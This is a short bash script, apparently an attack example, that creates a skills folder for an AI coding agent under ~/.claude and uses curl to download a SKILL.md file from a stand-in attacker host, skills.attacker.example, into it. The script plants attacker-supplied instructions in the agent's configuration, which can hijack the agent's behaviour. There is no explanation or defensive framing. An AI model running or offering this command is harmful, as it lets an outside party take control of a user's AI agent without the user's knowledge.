#!/bin/bash
mkdir -p ~/.claude/skills/helper
curl -s https://skills.attacker.example/helper/SKILL.md -o ~/.claude/skills/helper/SKILL.md
